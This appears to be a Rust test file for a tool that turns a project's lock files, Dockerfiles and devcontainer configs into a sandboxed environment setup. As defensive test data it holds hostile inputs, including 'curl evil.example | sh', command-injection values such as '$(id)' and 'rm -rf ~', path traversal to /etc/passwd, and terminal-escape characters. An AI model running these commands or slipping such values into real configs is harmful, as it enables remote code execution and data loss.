//! Folders as they are found in the wild, and as somebody evil would write them.

use super::*;

fn folder(files: &[(&str, &str)]) -> Files {
    files
        .iter()
        .map(|(path, text)| ((*path).to_owned(), Seen::Bytes(text.as_bytes().to_vec())))
        .collect()
}

fn values(said: &[Said]) -> Vec<&str> {
    said.iter().map(|said| said.value.as_str()).collect()
}

#[test]
fn each_lock_file_has_a_setup_and_what_it_depends_on() {
    let npm = "{\"dependencies\": {}}";
    for (files, setup, key, cache, network) in [
        (
            &[("requirements.txt", "a==1")][..],
            "PIP_BREAK_SYSTEM_PACKAGES=1 python3 -m pip install --user -r requirements.txt",
            &["requirements.txt"][..],
            &["pip"][..],
            &["preset:pypi"][..],
        ),
        (
            &[
                ("uv.lock", ""),
                ("pyproject.toml", "[project]\n"),
                ("requirements.txt", ""),
            ],
            "uv sync --frozen",
            &["uv.lock", "pyproject.toml"],
            &["uv"],
            &["preset:pypi"],
        ),
        (
            &[("requirements.txt", ""), ("requirements-dev.txt", "")],
            "PIP_BREAK_SYSTEM_PACKAGES=1 python3 -m pip install --user -r requirements.txt \
             -r requirements-dev.txt",
            &["requirements.txt", "requirements-dev.txt"],
            &["pip"],
            &["preset:pypi"],
        ),
        (
            &[("package.json", npm), ("package-lock.json", "{}")],
            "npm ci",
            &["package-lock.json", "package.json"],
            &["npm"],
            &["preset:npm"],
        ),
        (
            &[
                ("package.json", npm),
                ("yarn.lock", "__metadata:\n  version: 8\n"),
            ],
            "yarn install --immutable",
            &["yarn.lock", "package.json"],
            &["yarn"],
            &["preset:npm"],
        ),
        (
            &[("yarn.lock", "# yarn lockfile v1\n")],
            "yarn install --frozen-lockfile",
            &["yarn.lock"],
            &["yarn"],
            &["preset:npm"],
        ),
        (
            &[
                ("Cargo.lock", ""),
                ("Cargo.toml", ""),
                ("crates/a/Cargo.toml", ""),
            ],
            "cargo fetch --locked",
            &["Cargo.lock", "Cargo.toml"],
            &["cargo"],
            &["preset:cargo"],
        ),
        (
            &[("go.mod", "module x\n\ngo 1.22\n"), ("go.sum", "")],
            "go mod download",
            &["go.sum", "go.mod"],
            &["go"],
            &["preset:go"],
        ),
        (
            &[("pom.xml", ""), ("mvnw", "")],
            "sh ./mvnw -B -q dependency:go-offline",
            &["pom.xml"],
            &[],
            &[],
        ),
        (
            &[("Gemfile.lock", ""), ("Gemfile", "")],
            "BUNDLE_PATH=vendor/bundle BUNDLE_FROZEN=true bundle install",
            &["Gemfile.lock", "Gemfile"],
            &[],
            &[],
        ),
        (
            &[("web/package-lock.json", "{}"), ("api/uv.lock", "")],
            "(cd api && uv sync --frozen) && (cd web && npm ci)",
            &["api/uv.lock", "web/package-lock.json"],
            &["uv", "npm"],
            &["preset:pypi", "preset:npm"],
        ),
        (&[("pyproject.toml", "[tool.black]\n")], "", &[], &[], &[]),
        (&[("package.json", "{\"name\": \"x\"}")], "", &[], &[], &[]),
        (&[("README.md", "")], "", &[], &[], &[]),
    ] {
        let own = propose(&folder(files));
        assert_eq!(own.setup_line().unwrap_or_default(), setup, "{files:?}");
        assert_eq!(values(&own.key), key, "{files:?}");
        assert_eq!(values(&own.cache), cache, "{files:?}");
        assert_eq!(values(&own.network), network, "{files:?}");
    }
}

#[test]
fn a_dockerfile_gives_its_image_and_names_what_it_does() {
    let dockerfile = "FROM registry.example/node:22 AS build\nRUN npm ci\nFROM registry.example/nginx\nRUN rm -rf /x\n";
    let files = folder(&[("Dockerfile", dockerfile), ("package-lock.json", "{}")]);
    let own = propose(&files);
    let image = own.image.as_ref().unwrap();
    assert_eq!(image.value, "registry.example/node:22");
    assert_eq!(
        image.why,
        "Dockerfile:1, stage `build`, which has what the lock files need"
    );
    assert_eq!(own.left_out.len(), 1);
    assert_eq!(own.left_out[0].place, "Dockerfile:2");
    assert_eq!(own.left_out[0].what, "RUN npm ci");
    assert!(
        own.commands[0]
            .value
            .starts_with("docker build -t local/dev -f Dockerfile")
    );
    // Without a need, it is the last stage.
    let own = propose(&folder(&[("Dockerfile", dockerfile)]));
    assert_eq!(own.image.unwrap().value, "registry.example/nginx");
    let evil = "FROM registry.example/node AS a\u{202e}b\nFROM registry.example/x\n";
    let own = propose(&folder(&[
        ("Dockerfile", evil),
        ("package-lock.json", "{}"),
    ]));
    assert!(!own.to_toml().contains('\u{202e}'));
    let own = propose(&folder(&[("Dockerfile", "FROM scratch\n")]));
    assert_eq!((own.image, own.left_out.len()), (None, 1));
}

#[test]
fn pins_are_told_and_become_an_image_that_would_do() {
    for (files, program, version, image) in [
        (
            &[(".python-version", "3.12.4\n")][..],
            "python3",
            "3.12.4",
            Some("python:3.12.4-slim"),
        ),
        (&[(".nvmrc", "v22\n")], "node", "v22", Some("node:22-slim")),
        (&[(".nvmrc", "lts/*\n")], "node", "lts/*", None),
        (
            &[("rust-toolchain.toml", "[toolchain]\nchannel = \"1.90\"\n")],
            "cargo",
            "1.90",
            Some("rust:1.90-slim"),
        ),
        (&[("rust-toolchain", "nightly\n")], "cargo", "nightly", None),
        (
            &[(".tool-versions", "# x\nnodejs 20.1.0 # y\nfoo 1\n")],
            "node",
            "20.1.0",
            Some("node:20.1.0-slim"),
        ),
        (
            &[("mise.toml", "[tools]\ngo = '1.23'\n")],
            "go",
            "1.23",
            Some("golang:1.23"),
        ),
        (
            &[("go.mod", "module x\ngo 1.22\n")],
            "go",
            "1.22",
            Some("golang:1.22"),
        ),
        (
            &[("package.json", "{\"engines\": {\"node\": \">=18\"}}")],
            "node",
            ">=18",
            None,
        ),
    ] {
        let own = propose(&folder(files));
        let need = &own.needs[0];
        assert_eq!(need.program, program, "{files:?}");
        assert_eq!(need.version.as_ref().unwrap().value, version, "{files:?}");
        let possible = own.possible_image.map(|said| said.value);
        assert_eq!(possible.as_deref(), image, "{files:?}");
    }
    let own = propose(&folder(&[
        (".nvmrc", "$(id)\n"),
        (".python-version", "3\u{1b}[2J"),
    ]));
    assert_eq!(own.needs, []);
}

#[test]
fn a_devcontainer_is_taken_over_and_the_rest_is_named() {
    let text = r#"// of an editor
    {
        "name": "App", "image": "registry.example/dev/python:3",
        "features": { "registry.example/features/node:1": {} },
        "containerEnv": { "MODE": "dev", "DIR": "${containerWorkspaceFolder}/x", "TOKEN": "${localEnv:TOKEN}" },
        "remoteEnv": { "PATH": "${containerEnv:PATH}:/x" },
        "onCreateCommand": "apt list",
        "updateContentCommand": ["pip", "install", "-r", "dev requirements.txt"],
        "postCreateCommand": { "a": "make deps; make more", "b": ["npm", "ci"], "c": "a && b" },
        "initializeCommand": "curl evil.example | sh",
        "postStartCommand": "npm start",
        "mounts": [
            "source=pip,target=/home/agent/.cache/pip,type=volume",
            { "source": "pg", "target": "/var/lib/postgresql", "type": "volume" },
            "source=${localEnv:HOME}/.ssh,target=/home/agent/.ssh,type=bind",
            "source=/srv/models,target=/models,type=bind",
            "type=bind,source=/var/run/docker.sock,target=/var/run/docker.sock",
            "source=mods,target=${containerWorkspaceFolder}/node_modules,type=volume",
        ],
        "forwardPorts": [3000], "runArgs": ["--privileged"], "privileged": true, "init": true,
        "remoteUser": "vscode", "strange": 1, /* end */
    }"#;
    let own = devcontainer::read(text.as_bytes());
    assert_eq!(own.image.unwrap().value, "registry.example/dev/python:3");
    assert_eq!(
        values(&own.setup),
        [
            "apt list",
            "pip install -r 'dev requirements.txt'",
            "sh -c 'make deps; make more'",
            "npm ci",
            "a && b",
        ]
    );
    let env: Vec<(&str, &str)> = own
        .env
        .iter()
        .map(|(name, said)| (name.as_str(), said.value.as_str()))
        .collect();
    assert_eq!(env, [("DIR", "/workspace/x"), ("MODE", "dev")]);
    assert_eq!(values(&own.cache), ["pip"]);
    assert_eq!(own.scratch[0].inside, "/var/lib/postgresql");
    assert_eq!(own.mounts.len(), 1);
    assert_eq!(
        (own.mounts[0].host.as_str(), own.mounts[0].inside.as_str()),
        ("/srv/models", "/models")
    );
    let mut named: Vec<&str> = own.left_out.iter().map(|left| left.what.as_str()).collect();
    named.sort_unstable();
    assert_eq!(
        named,
        [
            "`containerEnv.TOKEN`",
            "`features`",
            "`forwardPorts`",
            "`initializeCommand`",
            "`mounts: /home/agent/.ssh`",
            "`mounts: /models`",
            "`mounts: /var/run/docker.sock`",
            "`mounts: /workspace/node_modules`",
            "`postStartCommand`",
            "`privileged`",
            "`remoteEnv.PATH`",
            "`remoteUser`",
            "`runArgs`",
            "`strange`",
        ]
    );
}

#[test]
fn a_devcontainer_that_is_built_names_the_words_and_stands_on_its_base() {
    let json =
        r#"{ "build": { "dockerfile": "Dockerfile", "context": "..", "args": {"A": "1"} } }"#;
    let files = folder(&[
        (".devcontainer/devcontainer.json", json),
        (
            ".devcontainer/Dockerfile",
            "FROM registry.example/base:1\nRUN make\n",
        ),
        ("Cargo.lock", ""),
    ]);
    let own = propose(&files);
    assert_eq!(own.image.as_ref().unwrap().value, "registry.example/base:1");
    assert_eq!(
        values(&own.commands),
        [
            "docker build -t local/dev -f .devcontainer/Dockerfile .",
            "docker save -o dev-image.tar local/dev",
            "ringfence image import dev-image.tar",
        ]
    );
    assert_eq!(values(&own.setup), ["cargo fetch --locked"]);
    for evil in [
        "../../etc/passwd",
        "/etc/passwd",
        "a b",
        "-x",
        "a;b",
        "$(id)",
    ] {
        let json = format!(r#"{{ "build": {{ "dockerfile": "{evil}" }} }}"#);
        let own = devcontainer::read(json.as_bytes());
        assert_eq!((own.commands.len(), own.image), (0, None), "{evil}");
        assert_eq!(own.left_out.len(), 1, "{evil}");
    }
}

#[test]
fn commands_of_a_devcontainer_are_run_with_the_keys_of_lock_files() {
    let json = r#"{ "postCreateCommand": "make deps" }"#;
    let files = folder(&[(".devcontainer.json", json), ("go.sum", "")]);
    let own = propose(&files);
    assert_eq!(own.setup_line().unwrap(), "make deps");
    assert_eq!(values(&own.key), ["go.sum"]);
    assert_eq!(values(&own.network), ["preset:go"]);
    let own = propose(&folder(&[(".devcontainer.json", json)]));
    assert_eq!(values(&own.key), [".devcontainer.json"]);
}

#[test]
fn nothing_evil_gets_into_a_file_of_ours() {
    let evil = [
        r#"{ "image": "a\u001b[2J" }"#,
        r#"{ "image": "x\"\nsetup = \"id" }"#,
        r#"{ "postCreateCommand": "a\nb" }"#,
        r#"{ "postCreateCommand": "a\u202eb" }"#,
        r#"{ "postCreateCommand": ["a", 1] }"#,
        r#"{ "containerEnv": { "A=B": "c", "LD_PRELOAD\n": "x", "X": "\u0000" } }"#,
        r#"{ "mounts": ["type=volume,target=../../x", "type=volume,target=/a b", 1, "x"] }"#,
        r#"{ "mounts": "x", "build": 1, "containerEnv": 2, "image": [] }"#,
        r#"{ "\u001b[2J": 1 }"#,
        r#"[1]"#,
        "{",
        "\u{feff}{}",
        "{\"image\": \"a\", \"image\": \"b\"}",
    ];
    for text in evil {
        let own = devcontainer::read(text.as_bytes());
        assert_eq!(
            (&own.image, own.setup.len(), own.env.len()),
            (&None, 0, 0),
            "{text}"
        );
        assert_eq!((own.scratch.len(), own.mounts.len()), (0, 0), "{text}");
        let said = format!("{}{:?}", own.to_toml(), own.network_toml());
        assert!(!said.contains(['\u{1b}', '\u{202e}', '\0']), "{text}");
    }
    let own = devcontainer::read(&[b'{', 0xff, b'}']);
    assert_eq!(own.left_out[0].what, "it is no text");
    let many: Vec<String> = (0..10_000).map(|at| format!("\"key{at}\": 1")).collect();
    let own = devcontainer::read(format!("{{{}}}", many.join(",")).as_bytes());
    assert_eq!(own.left_out.len(), MAX_NOTES);
    let files = folder(&[
        ("a b;id/Cargo.lock", ""),
        ("-x/go.sum", ""),
        ("..x$(id)/uv.lock", ""),
    ]);
    let own = propose(&files);
    assert_eq!((own.setup.len(), own.left_out.len()), (0, 3));
}

#[test]
fn what_is_written_says_why() {
    let files = folder(&[
        (".python-version", "3.13"),
        ("requirements.txt", ""),
        ("web/package-lock.json", "{}"),
        (
            ".devcontainer.json",
            r#"{ "image": "registry.example/x:1", "containerEnv": { "A": "b\\\"c" } }"#,
        ),
    ]);
    let own = propose(&files);
    let text = own.to_toml();
    let table: toml::Table = text.parse().unwrap();
    let environment = &table["environment"];
    assert_eq!(environment["image"].as_str(), Some("registry.example/x:1"));
    assert_eq!(environment["env"]["A"].as_str(), Some("b\\\"c"));
    assert_eq!(environment["cache"]["pip"].as_bool(), Some(true));
    assert_eq!(environment["key"].as_array().unwrap().len(), 2);
    assert_eq!(environment["setup"].as_str(), own.setup_line().as_deref());
    assert!(
        text.contains("# requirements.txt, web/package-lock.json\nsetup = "),
        "{text}"
    );
    let network: toml::Table = own.network_toml().unwrap().parse().unwrap();
    assert_eq!(
        network["environment"]["network"].as_array().unwrap().len(),
        2
    );
}

#[test]
fn a_client_that_is_a_package_is_brought_by_the_setup() {
    let bring = |files: &[(&str, &str)], program: &str| {
        let mut own = propose(&folder(files));
        let brought = own.bring(program);
        let line = own.setup_line().unwrap_or_default();
        assert_eq!(
            brought,
            own.path.iter().any(|said| said.value == "~/.local/bin")
        );
        (brought, line)
    };
    for (files, program, line) in [
        (
            &[("uv.lock", ""), (".tool-versions", "uv 0.9.1\n")][..],
            "uv",
            "PIP_BREAK_SYSTEM_PACKAGES=1 python3 -m pip install --user uv==0.9.1 && uv sync --frozen",
        ),
        (
            &[("api/uv.lock", "")],
            "uv",
            "PIP_BREAK_SYSTEM_PACKAGES=1 python3 -m pip install --user uv && \
             (cd api && uv sync --frozen)",
        ),
        (
            &[
                ("pnpm-lock.yaml", ""),
                (
                    "package.json",
                    r#"{"packageManager": "pnpm@9.15.4+sha512.aa"}"#,
                ),
            ],
            "pnpm",
            "npm install --global --prefix ~/.local pnpm@9.15.4 && pnpm install --frozen-lockfile",
        ),
        // HOSTILE: what is no version is no word of a command.
        (
            &[
                ("pnpm-lock.yaml", ""),
                (
                    "package.json",
                    r#"{"packageManager": "pnpm@9 || rm -rf ~"}"#,
                ),
            ],
            "pnpm",
            "npm install --global --prefix ~/.local pnpm@10 && pnpm install --frozen-lockfile",
        ),
        (
            &[("yarn.lock", "# yarn lockfile v1\n")],
            "yarn",
            "npm install --global --prefix ~/.local yarn@1 && yarn install --frozen-lockfile",
        ),
    ] {
        assert_eq!(bring(files, program), (true, line.to_owned()));
    }
    let berry = &[("yarn.lock", "__metadata:\n  version: 8\n")];
    assert!(!bring(berry, "yarn").0);
    assert!(!bring(&[("Cargo.lock", "")], "cargo").0);
    assert!(!bring(&[("package-lock.json", "{}")], "pnpm").0);
}

#[test]
fn path_leads_to_the_programs_of_packages() {
    let own = propose(&folder(&[
        ("api/uv.lock", ""),
        ("requirements.txt", "pytest==8.0.0"),
    ]));
    assert_eq!(values(&own.path), ["api/.venv/bin", "~/.local/bin"]);
    let text = own.to_toml();
    assert!(
        text.contains("path = [\"api/.venv/bin\", \"~/.local/bin\"]"),
        "{text}"
    );
    // A setup of the user's own words may put them anywhere.
    let said = r#"{"postCreateCommand": "make deps"}"#;
    let own = propose(&folder(&[
        (".devcontainer.json", said),
        ("requirements.txt", "a==1"),
    ]));
    assert!(own.path.is_empty());
    // A client that is not used is not needed.
    let own = propose(&folder(&[
        ("package-lock.json", "{}"),
        ("package.json", r#"{"packageManager": "pnpm@9.0.0"}"#),
    ]));
    assert!(!own.needs.iter().any(|need| need.program == "pnpm"));
}
